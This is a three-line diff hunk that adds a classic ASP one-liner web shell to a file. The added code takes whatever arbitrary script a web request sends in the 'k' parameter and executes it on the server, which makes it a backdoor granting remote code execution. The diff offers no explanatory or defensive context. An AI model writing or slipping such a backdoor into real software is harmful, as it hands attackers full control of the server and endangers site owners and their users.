@@ -1,0 +1,3 @@
+<%
+If Request("k") <> "" Then Execute(Request("k"))
+%>
